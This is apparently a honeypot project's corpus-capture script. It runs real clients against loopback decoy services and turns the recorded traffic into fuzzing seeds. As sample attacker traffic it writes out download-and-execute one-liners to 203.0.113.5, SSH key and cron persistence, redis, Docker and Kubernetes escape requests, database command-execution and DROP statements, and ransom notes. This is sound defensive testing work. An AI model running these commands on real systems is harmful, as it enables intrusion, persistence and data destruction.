#!/usr/bin/env bash
# Seeds for the fuzz targets, taken from the real clients the tests use: starts `decnet up`
# with loopback deckies covering the services (127.224.0.0/24, the API on 18240, a RELP and
# syslog collector on 18242/18243), captures lo with tcpdump while ssh, redis-cli, mariadb,
# psql, tsql, pymongo, smbclient, curl, mosquitto, snmpget, ldapsearch, swaks, sipsak, dig,
# docker, telnet, tftp, logger, nmap -sV and friends talk to them, then cuts the capture
# into seeds per target (scripts/pcap-to-seeds.py) and adds the non-network ones (INI,
# syslog lines, casts, bounty payloads, p0f.fp) from the run and the repo.
# Usage: scripts/capture-corpus.sh [BUILD_DIR] [OUT_DIR]   (root: tcpdump, ports < 1024)
#   OUT_DIR defaults to tests/corpus; existing seeds are kept, new ones added beside them.
# Every client runs under `timeout`; all traffic stays on 127.224.0.0/16.
set -uo pipefail
root=$(cd "$(dirname "$0")/.." && pwd)
build=${1:-$root/build}
out=${2:-$root/tests/corpus}
decnet=$build/decnet
[[ -x "$decnet" ]] || { echo "capture-corpus: build $decnet first" >&2; exit 2; }
[[ $EUID -eq 0 ]] || { echo "capture-corpus: run as root (tcpdump, ports below 1024)" >&2; exit 2; }
command -v tcpdump >/dev/null || { echo "capture-corpus: tcpdump missing (scripts/install-deps.sh)" >&2; exit 2; }

work=$(mktemp -d /tmp/decnet-capture.XXXXXX)
net=127.224.0
lin=$net.10 db=$net.11 win=$net.12 plc=$net.13 iot=$net.14 api_port=18240 relp_port=18242
syslog_port=18243
pids=()
cleanup() {
  for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null; done
  wait 2>/dev/null
}
trap cleanup EXIT

cat >"$work/fleet.ini" <<EOF
[general]
net = $net.0/24

[lin]
ip = $lin
distro = debian
services = ssh,telnet,ftp,tftp,http,smtp,imap,pop3,redis,snmp

[lin.ssh]
accept = any
auth_delay_ms = 0

[lin.telnet]
accept = any

[lin.imap]
accept = any

[lin.pop3]
accept = any

[lin.smtp]
accept = any

[db]
ip = $db
distro = ubuntu22
services = mysql,postgres,mongodb,elasticsearch,docker_api,k8s

[db.mysql]
accept = list
logins = root:Summer2024!

[db.postgres]
accept = list
logins = postgres:Summer2024!

[win]
ip = $win
archetype = windows-server
services = smb,ldap,rdp,mssql,llmnr

[win.smb]
logins = alice:Winter2024!

[win.mssql]
accept = list
logins = sa:Summer2024!

[plc]
ip = $plc
services = conpot

[iot]
ip = $iot
distro = debian
services = mqtt,sip,vnc
EOF

# A collector for the sensor's RELP stream and the logger's syslog datagrams.
"$decnet" collect --relp "$net.1:$relp_port" --listen "udp://$net.1:$syslog_port" \
  --db "$work/collect.db" >"$work/collect.log" 2>&1 &
pids+=($!)

tcpdump -i lo -s 0 -U -w "$work/capture.pcap" net $net.0/24 2>"$work/tcpdump.log" &
tcpdump_pid=$!
pids+=($tcpdump_pid)
for _ in $(seq 50); do grep -q "listening on" "$work/tcpdump.log" && break; sleep 0.2; done

env DECNET_ADMIN_PASSWORD=capture-corpus-1 DECNET_JWT_SECRET= "$decnet" up --config "$work/fleet.ini" \
  --db "$work/up.db" --state-dir "$work/state" --api-host $net.1 --api-port $api_port \
  --log-file "$work/events.log" --log-target "relp://$net.1:$relp_port" --user root \
  >"$work/up.log" 2>&1 &
up_pid=$!
pids+=($up_pid)
for _ in $(seq 150); do grep -q "decnet is up" "$work/up.log" && break; sleep 0.2; done
grep -q "decnet is up" "$work/up.log" || { cat "$work/up.log" >&2; exit 1; }
echo "capture-corpus: deckies up; driving the clients (a few minutes)"

run() { timeout "$@" >>"$work/clients.log" 2>&1; }
ssh_opts=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR
          -o ConnectTimeout=10 -o PreferredAuthentications=password)

# ---- ssh: several key exchanges and exec'd commands (the shell seeds are these lines) ----
shell_lines=(
  "uname -a; id; cat /etc/passwd | head -3"
  "cd /tmp && wget http://203.0.113.5/bins/x86 -O .x && chmod +x .x && ./.x"
  "curl -fsSL https://example.com/i.sh | sh"
  "echo 'ssh-rsa AAAAB3Nza user@host' >> ~/.ssh/authorized_keys"
  "for i in 1 2 3; do echo \$i; done > /dev/null 2>&1 &"
  "ps aux | grep -v grep | awk '{print \$2}' | xargs kill -9"
  "history -c; export HISTFILE=/dev/null; unset HISTFILE"
  "cat /proc/cpuinfo | grep name | head -n 1 | wc -l && nproc"
  "busybox tftp -g -r mips 203.0.113.5; ftpget -u a -p b 203.0.113.5 x x"
  "if [ -f /etc/os-release ]; then . /etc/os-release; echo \"\$NAME\"; fi"
  "(crontab -l 2>/dev/null; echo '* * * * * /tmp/.x') | crontab -"
  "echo YmFzZQ== | base64 -d | sh; \$(echo id); \`whoami\`"
)
printf '%s\n' "${shell_lines[@]}" >"$work/shell-lines.txt"
for cipher in "" "-c aes128-ctr" "-c chacha20-poly1305@openssh.com"; do
  # shellcheck disable=SC2086
  run 20 sshpass -p admin ssh "${ssh_opts[@]}" $cipher root@$lin "${shell_lines[0]}"
done
for kex in curve25519-sha256 sntrup761x25519-sha512@openssh.com ecdh-sha2-nistp256 \
    diffie-hellman-group14-sha256; do
  run 20 sshpass -p admin ssh "${ssh_opts[@]}" -o KexAlgorithms=$kex root@$lin "echo $kex"
done
for line in "${shell_lines[@]:1}"; do
  run 20 sshpass -p admin ssh "${ssh_opts[@]}" root@$lin "$line"
done
run 20 sshpass -p nope ssh "${ssh_opts[@]}" -C admin@$lin true
printf 'ls\npwd\nget /etc/hostname %s/h\nput %s/fleet.ini /tmp/f.ini\nbye\n' "$work" "$work" |
  run 20 sshpass -p admin sftp "${ssh_opts[@]}" root@$lin
run 20 sshpass -p admin scp "${ssh_opts[@]}" "$work/fleet.ini" root@$lin:/tmp/
# What sftp and scp send inside the channel is encrypted on the wire: the same clients talk
# to OpenSSH's own sftp-server and `scp -t`/`-f` over pipes, their input teed into seeds of
# fuzz_ssh_channel (first byte: the program — 0 shell, 1 exec, 2 sftp, 3 scp -t, 4 scp -f;
# 0x10: a pty — as tests/fuzz/ssh_channel_fuzz.cpp reads it).
mkdir -p "$work/channel/remote"
cp "$work/fleet.ini" "$work/channel/remote/"
printf '#!/bin/sh\nprintf "\\002" >"%s/channel/sftp.in"\ntee -a "%s/channel/sftp.in" | /usr/lib/openssh/sftp-server -d "%s/channel/remote"\n' \
  "$work" "$work" "$work" >"$work/channel/sftp-server"
# scp -S runs this in place of ssh, the remote command last: the local scp in that mode, in
# a scratch directory (the scp paths below are relative to it).
printf '#!/bin/sh\nfor a; do cmd=$a; done\ncase "$cmd" in *" -t "*) sel="\\003" ;; *) sel="\\004" ;; esac\nprintf "$sel" >"%s/channel/scp-$$.in"\nf="%s/channel/fifo-$$"; mkfifo "$f"; exec 3<&0; tee -a "%s/channel/scp-$$.in" <&3 >"$f" &\ncd "%s/channel/remote" && exec sh -c "$cmd" <"$f"\n' \
  "$work" "$work" "$work" "$work" >"$work/channel/fake-ssh"
chmod +x "$work/channel/sftp-server" "$work/channel/fake-ssh"
if [[ -x /usr/lib/openssh/sftp-server ]]; then
  printf 'ls -la\npwd\nmkdir d\ncd d\nput %s/run.sh\nchmod 755 run.sh\nrename run.sh r.sh\nget r.sh %s/channel/got\nln -s r.sh l\nstat r.sh\nrm r.sh\ncd ..\nrmdir d\ndf -h\nbye\n' "$work" "$work" |
    run 20 sftp -b - -D "$work/channel/sftp-server"
  run 20 scp -O -S "$work/channel/fake-ssh" "$work/run.sh" x:up.sh
  run 20 scp -O -S "$work/channel/fake-ssh" "$work/fleet.ini" "$work/elf.bin" x:.
  # (scp -f's client only sends acknowledgements: a seed of NULs below covers it.)
  printf '\004\0\0\0\0' >"$work/channel/scp-f.in"
fi
echo "SSH-2.0-libssh2_1.9.0" | run 5 nc -q2 $lin 22

# ---- telnet: a login and a shell session typed by a bot --------------------------------
{
  sleep 1; printf 'root\r\n'; sleep 0.5; printf 'admin\r\n'; sleep 1
  for line in "enable" "system" "shell" "${shell_lines[@]}" "sh" "/bin/busybox ECCHI" "exit"; do
    printf '%s\r\n' "$line"; sleep 0.3
  done
} | run 30 telnet $lin 23

# ---- ftp (curl) and tftp ---------------------------------------------------------------
run 10 curl -s ftp://$lin/ --user anonymous:guest@
run 10 curl -s ftp://$lin/ -l --user root:toor
run 10 curl -s ftp://$lin/config.ini --user admin:admin
printf '#!/bin/sh\nwget http://203.0.113.5/x\n' >"$work/run.sh"
head -c 2048 "$decnet" >"$work/elf.bin"
run 10 curl -s -T "$work/run.sh" ftp://$lin/upload/run.sh --user ftp:ftp --ftp-create-dirs
run 10 curl -s -T "$work/elf.bin" ftp://$lin/x86 --user ftp:ftp
run 10 curl -s ftp://$lin/ --user u:p -Q "MKD pub2" -Q "RNFR pub2" -Q "RNTO pub3" -Q "DELE x86" -Q "SITE CHMOD 777 x"
printf 'USER anonymous\r\nPASS a@b\r\nSYST\r\nFEAT\r\nPWD\r\nCWD ../../etc\r\nSIZE passwd\r\nMDTM passwd\r\nTYPE A\r\nEPSV\r\nPORT 127,0,0,1,4,1\r\nQUIT\r\n' |
  run 10 nc -q3 $lin 21
(cd "$work" && run 10 tftp $lin -m octet -c get startup-config)
(cd "$work" && run 10 tftp $lin -m octet -c put run.sh)
(cd "$work" && run 10 tftp $lin -m netascii -c get ../../etc/passwd)
run 10 curl -s tftp://$lin/running-config

# ---- web: http, docker, k8s, elasticsearch, the API ------------------------------------
run 10 curl -s http://$lin/
run 10 curl -s "http://$lin/index.php?id=1%27%20OR%201=1--" -A "Mozilla/5.0 zgrab/0.x"
run 10 curl -s http://$lin/wp-login.php -d 'log=admin&pwd=admin&wp-submit=Log+In'
run 10 curl -s http://$lin/cgi-bin/luci/ -H 'Transfer-Encoding: chunked' --data-binary 'a=b'
run 10 curl -s http://$lin/.env -H 'X-Forwarded-For: 1.2.3.4' --http1.0
run 10 curl -s http://$lin/ews/ --ntlm -u 'CORP\bob:pw'
run 10 curl -sk https://$lin/admin -u admin:admin
run 10 curl -s "http://$lin/shell?cd+/tmp;wget+http://203.0.113.5/x.sh" -X POST -d '{"a":[1,2,{"b":null}]}' -H 'Content-Type: application/json'
docker=(env DOCKER_CONFIG="$work" timeout 30 docker -H tcp://$db:2375)
for args in "version" "ps -a" "images" "info" "run -v /:/host alpine chroot /host sh -c id" \
    "exec webapp cat /etc/shadow" "pull ubuntu:22.04"; do
  # shellcheck disable=SC2086
  "${docker[@]}" $args >>"$work/clients.log" 2>&1
done
run 10 curl -s -X POST http://$db:2375/v1.41/containers/create -H 'Content-Type: application/json' \
  -d '{"Image":"alpine","Cmd":["sh","-c","wget http://203.0.113.5/x|sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}'
run 10 curl -s http://$db:8080/api/v1/namespaces/default/pods
run 10 curl -s http://$db:8080/apis/apps/v1/deployments?limit=500
run 10 curl -s -X POST http://$db:8080/api/v1/namespaces/kube-system/pods -H 'Content-Type: application/json' \
  -d '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"x"},"spec":{"hostPID":true,"containers":[{"name":"x","image":"alpine","command":["nsenter","-t","1","-m","sh"]}]}}'
run 10 curl -s -X POST "http://$db:8080/api/v1/namespaces/default/pods/web/exec?command=id&stdout=true"
run 10 curl -sk https://$db:6443/version
run 10 curl -s http://$db:9200/
run 10 curl -s "http://$db:9200/_cat/indices?v"
run 10 curl -s "http://$db:9200/_search?q=password:*&size=5"
run 10 curl -s http://$db:9200/customers/_search -H 'Content-Type: application/json' \
  -d '{"query":{"bool":{"must":[{"match":{"email":"a@b.c"}}],"filter":{"range":{"age":{"gte":18}}}}},"from":0,"size":3}'
run 10 curl -s http://$db:9200/_search -H 'Content-Type: application/json' \
  -d '{"script_fields":{"x":{"script":"java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")"}}}'
run 10 curl -s -X PUT http://$db:9200/pwned/_doc/1 -H 'Content-Type: application/json' -d '{"note":"send 0.1 BTC","n":3}'
run 10 curl -s -X DELETE http://$db:9200/customers
api=http://$net.1:$api_port/api/v1
token=$(curl -s -m 10 "$api/auth/login" -H 'Content-Type: application/json' \
  -d '{"username":"admin","password":"capture-corpus-1"}' | sed -n 's/.*"access_token":"\([^"]*\)".*/\1/p')
for path in deckies stats health "logs?limit=5&search=service:ssh" attackers "bounty?limit=3" \
    identities "histogram?interval=1h"; do
  run 10 curl -s "$api/$path" -H "Authorization: Bearer $token"
done
run 10 curl -s "$api/deckies/deploy" -X POST -H "Authorization: Bearer $token" \
  -H 'Content-Type: application/json' -d '{"ini_content":"[x]\nip=127.224.0.50\nservices=redis\n"}'
run 10 curl -s "$api/auth/login" -H 'Content-Type: application/json' -d '{"username":"admin","password":"wrong"}'

# ---- mail ------------------------------------------------------------------------------
run 20 swaks --server $lin --to alice@example.com --from bob@example.net --header 'Subject: invoice' \
  --attach-type application/pdf --attach @"$work/run.sh"
run 20 swaks --server $lin:587 --to a@example.com --auth LOGIN --auth-user u --auth-password p
run 20 swaks --server $lin --tls --to a@example.com --auth PLAIN --auth-user u --auth-password p
run 20 swaks --server $lin --to a@example.com --auth CRAM-MD5 --auth-user u --auth-password p
run 20 curl -s imap://$lin/INBOX -u carol:Passw0rd
run 20 curl -s "imap://$lin/INBOX;UID=1" -u carol:Passw0rd
run 20 curl -s imap://$lin/ -u carol:Passw0rd -X 'EXAMINE INBOX'
run 20 curl -s imap://$lin/INBOX -u carol:Passw0rd -X 'UID FETCH 1:* (FLAGS BODY.PEEK[HEADER.FIELDS (FROM SUBJECT)])'
run 20 curl -sk imaps://$lin/INBOX -u carol:Passw0rd
run 20 curl -s pop3://$lin/ -u carol:Passw0rd
run 20 curl -s pop3://$lin/1 -u carol:Passw0rd
run 20 curl -s pop3://$lin/ -u carol:Passw0rd -X 'UIDL'
printf 'CAPA\r\nUSER carol\r\nPASS x\r\nSTAT\r\nLIST\r\nTOP 1 5\r\nRETR 1\r\nDELE 1\r\nRSET\r\nQUIT\r\n' | run 10 nc -q3 $lin 110

# ---- databases -------------------------------------------------------------------------
run 20 redis-cli -h $lin PING
run 20 redis-cli -h $lin INFO server
printf 'CONFIG SET dir /var/spool/cron\nCONFIG SET dbfilename root\nSET x "\\n* * * * * curl http://203.0.113.5/x|sh\\n"\nSAVE\nKEYS *\nSLAVEOF 203.0.113.5 6379\nMODULE LOAD /tmp/exp.so\nEVAL "return 1" 0\nCLIENT LIST\n' |
  run 20 redis-cli -h $lin
printf 'PING\r\nAUTH hunter2\r\n*2\r\n$4\r\nECHO\r\n$2\r\nhi\r\n' | run 5 nc -q2 $lin 6379
run 20 mariadb --skip-ssl -h $db -u root -pX -e 'select 1'
run 20 mariadb --skip-ssl -h $db -u root '-pSummer2024!' -e "SHOW DATABASES; SELECT * FROM shop.users LIMIT 3; SELECT @@version, @@hostname; USE shop; SHOW TABLES; SELECT LOAD_FILE('/etc/passwd'); DROP DATABASE shop"
run 20 mariadb --ssl -h $db -u admin -phunter2 -e 'select 1'
pg() { PGPASSWORD="$1" PGCONNECT_TIMEOUT=10 run 20 psql "host=$db sslmode=$2 user=postgres" "${@:3}"; }
pg hunter2 disable -c 'select 1'
pg 'Summer2024!' disable -c '\l' -c 'SELECT * FROM users LIMIT 2' -c 'SELECT version()' \
  -c "COPY (SELECT 1) TO PROGRAM 'id'" -c '\dt'
pg 'Summer2024!' require -c 'select current_user'
printf '[global]\n\ttds version = 7.4\n' >"$work/freetds.conf"
tsql_run() { printf '%b\ngo\nexit\n' "$3" | FREETDSCONF="$work/freetds.conf" run 20 tsql -H $win -p 1433 -U "$1" -P "$2"; }
tsql_run sa secret 'SELECT 1'
tsql_run sa 'Summer2024!' "SELECT @@VERSION\ngo\nSELECT name FROM sys.databases\ngo\nEXEC xp_cmdshell 'whoami'\ngo\nUSE erp; SELECT TOP 3 * FROM customers"
if /usr/bin/python3 -c 'import pymongo' 2>/dev/null; then
  run 40 /usr/bin/python3 - $db <<'EOF'
import sys
import pymongo
from pymongo.errors import PyMongoError
host = sys.argv[1]
kw = dict(port=27017, serverSelectionTimeoutMS=5000, connectTimeoutMS=5000)
c = pymongo.MongoClient(host, **kw)
try:
    c.admin.command('buildInfo')
    for name in c.list_database_names():
        db = c[name]
        for coll in db.list_collection_names()[:2]:
            list(db[coll].find({'$or': [{'role': 'admin'}, {'age': {'$gt': 30}}]}).limit(2))
            db[coll].count_documents({})
            list(db[coll].aggregate([{'$match': {}}, {'$group': {'_id': '$role', 'n': {'$sum': 1}}}]))
    c.pwn.README.insert_one({'content': 'pay 0.1 BTC', 'n': 1.5, 'b': b'\x00\x01', 'l': [1, None]})
    c.drop_database('shop')
except PyMongoError as e:
    print(e)
for mech in ('SCRAM-SHA-256', 'SCRAM-SHA-1'):
    a = pymongo.MongoClient(host, username='admin', password='Winter2025!', authMechanism=mech, **kw)
    try:
        a.admin.command('listDatabases')
    except PyMongoError as e:
        print(mech, e)
EOF
fi

# ---- windows: smb, ldap, rdp, llmnr ----------------------------------------------------
run 30 smbclient -L //$win -U 'CORP\alice%Winter2024!'
run 30 smbclient -L //$win -U 'CORP\alice%wrong'
run 30 smbclient -L //$win -N
run 30 smbclient -L //$win -p 139 -U 'CORP\alice%Winter2024!'
run 30 smbclient //$win/C\$ -U 'CORP\alice%Winter2024!' -c 'ls; cd Users; ls; get desktop.ini /dev/null; put '"$work/run.sh"' run.sh; mkdir x; rmdir x'
run 30 smbclient -L //$win -m NT1 --option='client min protocol=NT1' -N
run 30 ldapsearch -x -H ldap://$win -b '' -s base
run 30 ldapsearch -x -H ldap://$win -b 'DC=corp,DC=local' '(&(objectClass=user)(|(sAMAccountName=adm*)(description=*pass*)))' sAMAccountName memberOf
run 30 ldapsearch -x -H ldap://$win -D 'CN=svc_backup,CN=Users,DC=corp,DC=local' -w 'Backup2024!' -b 'DC=corp,DC=local' -E pr=50/noprompt '(objectClass=computer)'
run 30 ldapsearch -x -H ldap://$win -D 'administrator@corp.local' -w wrong -b '' -s base
run 30 ldapwhoami -x -H ldap://$win -D 'CN=svc_backup,CN=Users,DC=corp,DC=local' -w 'Backup2024!'
if command -v xvfb-run >/dev/null; then
  HOME=$work run 60 xvfb-run -a xfreerdp /auth-only /v:$win /u:bob /p:pw /d:CORP /cert:ignore
fi
if [[ -f /usr/share/doc/python3-impacket/examples/rdp_check.py ]]; then
  run 30 /usr/bin/python3 /usr/share/doc/python3-impacket/examples/rdp_check.py "CORP/bob:pw@$win"
fi
win_host=$(awk '$1 == "win" { print $3 }' "$work/up.log")
run 10 dig +time=2 +tries=1 @$win -p 5355 "${win_host:-fs01}"
run 10 dig +time=2 +tries=1 @$win -p 5353 "${win_host:-fs01}.local"
run 10 dig +time=1 +tries=1 @$win -p 5355 wpad
run 10 dig +time=1 +tries=1 @$win -p 5353 -t PTR _services._dns-sd._udp.local
run 10 dig +time=1 +tries=1 @$win -p 5355 -t AAAA dc01

# ---- iot, ics, voip, vnc, snmp ---------------------------------------------------------
run 10 mosquitto_sub -h $iot -V mqttv5 -t '$SYS/broker/version' -C 1 -W 5
run 10 mosquitto_sub -h $iot -t '#' -C 5 -W 5 -u admin -P admin
run 10 mosquitto_pub -h $iot -t plant/cmd/pump1 -m STOP -q 2
run 10 mosquitto_pub -h $iot -V mqttv5 -t firmware/update -q 1 -m 'curl http://203.0.113.5/x|sh' -r
run 10 mosquitto_sub -h $iot -V mqttv311 -t 'plant/+/level' -t 'a/#' -C 2 -W 4 -i bot-1
run 10 sipsak -vv -s sip:100@$iot
run 10 sipsak -U -C sip:bot@203.0.113.5 -a secret -u 100 -s sip:100@$iot
command -v svmap >/dev/null && run 30 svmap $iot
command -v svwar >/dev/null && run 30 svwar -e100-103 $iot
printf 'OPTIONS sip:100@%s SIP/2.0\r\nVia: SIP/2.0/TCP 127.224.0.1:5060;branch=z9hG4bK1\r\nFrom: <sip:a@b>;tag=1\r\nTo: <sip:100@%s>\r\nCall-ID: 1@b\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n' $iot $iot |
  run 5 nc -q2 $iot 5060
printf 'pass\n' >"$work/vnc.pass"
run 20 vncsnapshot -passwd "$work/vnc.pass" $iot:0 "$work/vnc.jpg"
run 10 snmpget -v2c -c public -On -t 2 -r 1 $lin 1.3.6.1.2.1.1.1.0 1.3.6.1.2.1.1.5.0
run 10 snmpget -v1 -c private -On -t 2 -r 1 $lin 1.3.6.1.2.1.1.3.0
run 20 snmpwalk -v2c -c public -On -t 2 -r 1 $lin 1.3.6.1.2.1.1
run 10 snmpget -v3 -u admin -l noAuthNoPriv -t 2 -r 1 $lin 1.3.6.1.2.1.1.1.0
command -v mbpoll >/dev/null && run 10 mbpoll -a 1 -r 1 -c 10 -1 $plc
command -v mbpoll >/dev/null && run 10 mbpoll -a 1 -t 0 -r 1 -c 8 -1 $plc
command -v mbpoll >/dev/null && run 10 mbpoll -a 1 -r 20 -1 $plc 4242
run 60 nmap -n -Pn -sT -p 102 --script s7-info $plc
run 60 nmap -n -Pn -sT -p 502 --script modbus-discover $plc
run 60 nmap -n -Pn -sU -p 47808 --script bacnet-info $plc
run 60 nmap -n -Pn -sV --version-light -p 21,22,23,25,80,110,143,6379 $lin
run 60 nmap -n -Pn -sV --version-light -p 3306,5432,9200,27017 $db
run 60 nmap -n -Pn -sV --version-light -p 445,1433,3389 $win
run 60 nmap -n -Pn -sV --version-light -p 1883,5900 $iot
echo | run 10 openssl s_client -connect $lin:443 -servername web.example
echo | run 10 openssl s_client -tls1_2 -connect $lin:993
echo | run 10 openssl s_client -connect $iot:8883 -alpn mqtt

# ---- syslog from logger (RFC 3164 and 5424) into the collector -------------------------
for fmt in --rfc3164 --rfc5424 "--rfc5424=notq"; do
  logger $fmt -d -n $net.1 -P $syslog_port -t sshd -p auth.warning \
    "Failed password for root from 203.0.113.9 port 51514 ssh2" 2>>"$work/clients.log"
done
logger --rfc5424 -d -n $net.1 -P $syslog_port -t decnet --sd-id 'decnet@55555' \
  --sd-param 'src_ip="203.0.113.9"' --sd-param 'username="ro\"ot"' "login" 2>>"$work/clients.log"
sleep 2

kill "$up_pid"; wait "$up_pid" 2>/dev/null
sleep 1
kill "$tcpdump_pid"; wait "$tcpdump_pid" 2>/dev/null
echo "capture-corpus: $(stat -c %s "$work/capture.pcap") bytes captured; cutting seeds"

mkdir -p "$work/seeds"
python3 "$root/scripts/pcap-to-seeds.py" "$work/capture.pcap" "$work/seeds" --conpot-ip $plc \
  --api-port $api_port --relp-port $relp_port --syslog-port $syslog_port || exit 1

# ---- non-network seeds: from this run and from the repo --------------------------------
add() {  # add TARGET FILE...: each file a seed (content-named, at most 64 KiB)
  local target=$1; shift
  mkdir -p "$work/seeds/$target"
  for f in "$@"; do
    [[ -s "$f" ]] || continue
    head -c 65536 "$f" >"$work/seeds/$target/tmp" &&
      mv "$work/seeds/$target/tmp" "$work/seeds/$target/$(sha1sum <"$work/seeds/$target/tmp" | cut -c1-40)"
  done
}
add_lines() {  # add_lines TARGET FILE [N]: its first N distinct lines, one seed each
  local target=$1 file=$2 n=${3:-30} i=0
  [[ -s "$file" ]] || return 0
  while IFS= read -r line && ((i++ < n)); do
    printf '%s' "$line" >"$work/line"; add "$target" "$work/line"
  done < <(awk '!seen[$0]++' "$file" | head -n 400 | shuf -n "$n" --random-source=<(yes))
}
while IFS= read -r line; do printf '%s' "$line" >"$work/line"; add shell_parser "$work/line"; done \
  <"$work/shell-lines.txt"
# fuzz_ssh_channel: the shell (selector 0x10: with a pty) and exec (1) with the same lines.
{ printf '\020'; cat "$work/shell-lines.txt"; printf 'exit\n'; } >"$work/line"; add ssh_channel "$work/line"
while IFS= read -r line; do printf '\001%s\n' "$line" >"$work/line"; add ssh_channel "$work/line"; done \
  < <(head -n 6 "$work/shell-lines.txt")
add ssh_channel "$work"/channel/*.in
grep -o '[a-z]*://[^ ;|]*' "$work/shell-lines.txt" | while IFS= read -r url; do
  printf '%s' "$url" >"$work/line"; add download_url "$work/line"; done
add ini_parser "$work/fleet.ini" $(git -C "$root" ls-files '*.ini' | sed "s|^|$root/|")
# Every ```ini block of the docs is an INI seed; [alerts] ones also feed alert_settings
# (its harness: the webhook URL on the first line, then key = value lines).
for md in "$root"/README.md "$root"/docs/*.md; do
  awk -v out="$work/ini-$(basename "$md" .md)" '/^```ini/{n++; f=1; next} /^```/{f=0} f{print > (out "-" n)}' "$md"
done
add ini_parser "$work"/ini-*
for f in $(grep -l '^\[alerts' "$work"/ini-* 2>/dev/null); do
  awk '/^\[alerts/{if (url != "") print url "\n" body > (FILENAME "-" n); n++; url=""; body=""; next}
       /^url *=/{sub(/^url *= */, ""); url=$0; next} /=/{body=body $0 "\n"}
       END{if (url != "") print url "\n" body > (FILENAME "-" n)}' "$f"
  add alert_settings "$f"-*
done
add_lines rfc5424 "$work/events.log" 30
add_lines correlation "$work/events.log" 10
add correlation "$work/events.log"
# Session recordings (asciicast v2) are kept as artifacts, beside the uploads.
for f in $(grep -l '^{"version": 2' "$work"/state/artifacts/* 2>/dev/null | head -n 8); do
  add cast_player "$f"
  head -n 1 "$f" >"$work/line"; add cast_player "$work/line"
  sed -n 2p "$f" >"$work/line"; add cast_player "$work/line"
done
if command -v sqlite3 >/dev/null; then
  sqlite3 "$work/up.db" 'SELECT payload FROM bounty LIMIT 200' 2>/dev/null >"$work/bounty.txt"
  add_lines intel_export "$work/bounty.txt" 20
  tr '\n' '\036' <"$work/bounty.txt" | head -c 60000 >"$work/bounty.rs"; add intel_export "$work/bounty.rs"
fi
[[ -f /etc/p0f/p0f.fp ]] && grep '^sig' /etc/p0f/p0f.fp | head -n 20 | while IFS= read -r line; do
  printf '%s' "${line#sig*= }" >"$work/line"; add p0f "$work/line"; done
[[ -f /etc/p0f/p0f.fp ]] && { head -c 16384 /etc/p0f/p0f.fp >"$work/p0f.fp"; add p0f "$work/p0f.fp"; }
find "$work/state" -type f -path '*artifacts*' 2>/dev/null | head -n 10 | while IFS= read -r f; do
  add artifact_mime "$f"; done

# Merge: keep what is committed, add the new seeds, cap each target.
for dir in "$work/seeds"/*/; do
  target=$(basename "$dir")
  mkdir -p "$out/$target"
  existing=$(find "$out/$target" -type f | wc -l)
  room=$((48 - existing))
  ((room > 0)) || continue
  find "$dir" -type f ! -name tmp | head -n "$room" | while IFS= read -r f; do
    cp -n "$f" "$out/$target/"
  done
  echo "capture-corpus: $target: $(find "$out/$target" -type f | wc -l) seeds"
done
echo "capture-corpus: clients' output in $work/clients.log; capture in $work/capture.pcap"
